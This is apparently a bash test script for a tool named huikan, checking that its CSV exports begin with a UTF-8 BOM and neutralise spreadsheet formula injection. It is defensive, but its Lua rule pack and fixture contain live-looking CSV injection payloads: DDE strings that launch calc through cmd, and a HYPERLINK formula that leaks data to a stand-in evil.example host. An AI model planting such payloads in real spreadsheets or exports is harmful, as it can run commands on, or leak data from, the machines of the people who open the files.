#!/usr/bin/env bash
# Every CSV huikan writes (run --format csv, findings --format csv, stats
# --format csv, report --csv, export) opens right in Excel: it starts with a
# UTF-8 BOM (--no-bom for pipelines), and no cell runs as a formula (formula
# injection): a text beginning with = + - @ TAB CR (or ＝ ＋ － ＠) is kept as
# text by a leading apostrophe; a plain number such as -12 stays a number.
# The export's apostrophes are removed again by import (round trip).
. "$(dirname "$0")/lib.bash"

BOM=$'\xef\xbb\xbf'
starts_with_bom() { [ "$(head -c 3 "$1")" = "$BOM" ]; }
# the payloads a rule puts in its messages, one finding each
mkdir -p "$T/pack/rules"
cat >"$T/pack/pack.lua" <<'EOF'
return { name = "inject", version = "1.0", description = "formula-like messages" }
EOF
cat >"$T/pack/rules/inject.lua" <<'EOF'
local payloads = {
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("http://evil.example/?leak","click")',
	"-2+3+cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"\239\188\157" .. "1+1",
	"-12",
	"plain text",
}
return {
	id = "inject.messages", title = "formula-like messages", category = "sample",
	severity = "low", entity = "household", basis = "test",
	check = function(ctx)
		for i, m in ipairs(payloads) do
			ctx:report{ entity = "household:P" .. i, message = m, evidence = { n = i } }
		end
	end,
}
EOF

DB=$T/r.db
"$HUIKAN" import --db "$DB" "$ROOT/tests/fixtures/small" >/dev/null 2>&1 || not_ok "import of the small fixture"

# cells as a spreadsheet sees them: one per line, BOM dropped (RFC 4180 quotes)
cells() {
	python3 -c '
import csv, sys
t = open(sys.argv[1], encoding="utf-8", newline="").read()
if t.startswith("\ufeff"): t = t[1:]
for row in csv.reader(t.splitlines(True) if False else __import__("io").StringIO(t, newline="")):
    for c in row: print(c.replace("\t", "<TAB>").replace("\r", "<CR>").replace("\n", "<LF>"))' "$1"
}
# bad_cells FILE: the cells a spreadsheet would run
bad_cells() {
	cells "$1" | python3 -c '
import re, sys
for c in sys.stdin.read().split("\n"):
    if not c: continue
    c2 = c.replace("<TAB>", "\t").replace("<CR>", "\r")
    if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", c2): continue
    if c2[0] in "=+-@\t\r" or c2[:1] in "\uff1d\uff0b\uff0d\uff20": print(c)'
}

"$HUIKAN" run "$T/pack" --db "$DB" --as-of 2020-06-30 --format csv -q -o "$T/run.csv"
starts_with_bom "$T/run.csv" && ok "run --format csv starts with a UTF-8 BOM" || not_ok "run csv: no BOM: $(head -c 20 "$T/run.csv" | od -c | head -2)"
[ -z "$(bad_cells "$T/run.csv")" ] && ok "run --format csv: no cell runs as a formula" ||
	not_ok "run csv: cells that run: $(bad_cells "$T/run.csv" | head -5)"
cells "$T/run.csv" | grep -qxF "'-2+3+cmd|' /C calc'!A0" && ok "run csv: '-2+3+cmd...' is neutralised (no minus-digit exemption)" ||
	not_ok "run csv: $(cells "$T/run.csv" | grep -F 'cmd|' | head -3)"
cells "$T/run.csv" | grep -qx -- "-12" && ok "run csv: a plain number -12 stays a number" || not_ok "run csv: -12 changed"
cells "$T/run.csv" | grep -qx "'<TAB>=1+1" && cells "$T/run.csv" | grep -qx "'<CR>=1+1" &&
	ok "run csv: cells starting with TAB or CR are neutralised" || not_ok "run csv: TAB/CR: $(cells "$T/run.csv" | grep -e TAB -e CR)"
"$HUIKAN" run "$T/pack" --db "$DB" --as-of 2020-06-30 --format csv -q --no-bom >"$T/run-nobom.csv"
[ "$(head -c 3 "$T/run-nobom.csv")" = "id," ] && ok "run --format csv --no-bom: no BOM (for pipelines)" ||
	not_ok "run --no-bom: $(head -c 20 "$T/run-nobom.csv" | od -c | head -2)"

# the ledger: findings and stats as CSV, then the report's CSV lists
export HUIKAN_LEDGER=$T/ledger.git HUIKAN_USER="Li Wei <li.wei@example.org>"
"$HUIKAN" ledger init --unsigned "$HUIKAN_LEDGER" --office luchuan --admin "$HUIKAN_USER" >/dev/null 2>&1
"$HUIKAN" run "$T/pack" --db "$DB" --as-of 2020-06-30 -q --ledger "$HUIKAN_LEDGER" -o "$T/ignored" 2>/dev/null
"$HUIKAN" findings --format csv >"$T/findings.csv"
starts_with_bom "$T/findings.csv" && ok "findings --format csv starts with a UTF-8 BOM" || not_ok "findings csv: no BOM"
[ "$(cells "$T/findings.csv" | grep -c 'cmd|')" -eq 4 ] && [ -z "$(bad_cells "$T/findings.csv")" ] &&
	ok "findings --format csv: no cell runs as a formula" ||
	not_ok "findings csv: $(bad_cells "$T/findings.csv" | head -5)"
"$HUIKAN" findings --format csv --no-bom | head -c 3 | grep -q '^id,' && ok "findings --format csv --no-bom: no BOM" ||
	not_ok "findings --no-bom"
"$HUIKAN" stats --format csv >"$T/stats.csv"
starts_with_bom "$T/stats.csv" && [ "$(grep -c "$BOM" "$T/stats.csv")" -eq 1 ] && [ -z "$(bad_cells "$T/stats.csv")" ] &&
	ok "stats --format csv: one BOM at the top, no formula cell" || not_ok "stats csv: $(head -3 "$T/stats.csv")"
"$HUIKAN" stats --format csv --no-bom | head -c 3 | grep -q '^by,' && ok "stats --format csv --no-bom: no BOM" || not_ok "stats --no-bom"

"$HUIKAN" report --csv "$T/lists" -q >/dev/null 2>"$T/e" || not_ok "report --csv: $(cat "$T/e")"
starts_with_bom "$T/lists/问题清单.csv" && ok "report --csv starts with a UTF-8 BOM" || not_ok "report csv: no BOM"
bad=$(for f in "$T"/lists/*.csv; do bad_cells "$f"; done)
[ -z "$bad" ] && cells "$T/lists/问题清单.csv" | grep -qxF "'-2+3+cmd|' /C calc'!A0" &&
	ok "report --csv: no cell runs as a formula, -2+3+cmd included" || not_ok "report csv: cells that run: $(echo "$bad" | head -5)"
"$HUIKAN" report --csv "$T/lists2" -q --no-bom >/dev/null 2>&1
[ "$(head -c 3 "$T/lists2/问题清单.csv" | od -An -tx1 | tr -d ' ')" != efbbbf ] && ok "report --csv --no-bom: no BOM" ||
	not_ok "report --no-bom"

# export: registry text that would run; the round trip keeps it exactly
mkdir "$T/reg"
cp "$ROOT"/tests/fixtures/small/*.csv "$T/reg/"
python3 - "$T/reg/members.csv" <<'EOF'
import csv, sys
p = sys.argv[1]
rows = list(csv.reader(open(p, encoding="utf-8-sig", newline="")))
i = rows[0].index("name")
rows[1][i] = "=HYPERLINK(\"http://evil.example\",\"x\")"
rows[2][i] = "-2+3+cmd|' /C calc'!A0"
rows[3][i] = "'=already quoted"
w = csv.writer(open(p, "w", encoding="utf-8", newline=""), lineterminator="\n")
w.writerows(rows)
EOF
"$HUIKAN" import --db "$T/x.db" "$T/reg" >/dev/null 2>"$T/e" || not_ok "import of the injected registry: $(cat "$T/e")"
# a text kept from running by an apostrophe, as spreadsheets write it, is read without it
sqlite3 "$T/x.db" "SELECT name FROM members" | grep -qxF "=already quoted" &&
	ok "import reads '=text as =text (the apostrophe only kept it from running)" ||
	not_ok "import of '=text: $(sqlite3 "$T/x.db" 'SELECT name FROM members' | head -4)"
"$HUIKAN" export --db "$T/x.db" --out "$T/exp" >/dev/null 2>"$T/e"
starts_with_bom "$T/exp/members.csv" && ok "export (UTF-8) starts with a BOM" || not_ok "export: no BOM"
[ -z "$(bad_cells "$T/exp/members.csv")" ] && ok "export: no cell runs as a formula" ||
	not_ok "export: cells that run: $(bad_cells "$T/exp/members.csv")"
"$HUIKAN" import --db "$T/y.db" "$T/exp" >/dev/null 2>"$T/e"
[ "$(sqlite3 "$T/x.db" .dump | sha256sum)" = "$(sqlite3 "$T/y.db" .dump | sha256sum)" ] &&
	sqlite3 "$T/y.db" "SELECT name FROM members" | grep -qxF -- "-2+3+cmd|' /C calc'!A0" &&
	sqlite3 "$T/y.db" "SELECT name FROM members" | grep -qxF "=already quoted" &&
	ok "import(export(db)) == db with formula-like text (apostrophes removed again)" ||
	not_ok "export round trip: $(sqlite3 "$T/y.db" 'SELECT name FROM members' | head -4) $(cat "$T/e")"
"$HUIKAN" export --db "$T/x.db" --out "$T/exp-nobom" --no-bom >/dev/null 2>&1
[ "$(head -c 3 "$T/exp-nobom/members.csv")" != "$BOM" ] && ok "export --no-bom: no BOM" || not_ok "export --no-bom"
"$HUIKAN" export --db "$T/x.db" --out "$T/exp-gb" --encoding gb18030 >/dev/null 2>&1
[ "$(head -c 3 "$T/exp-gb/members.csv")" != "$BOM" ] && ok "export --encoding gb18030: no UTF-8 BOM" || not_ok "export gb18030 has a UTF-8 BOM"
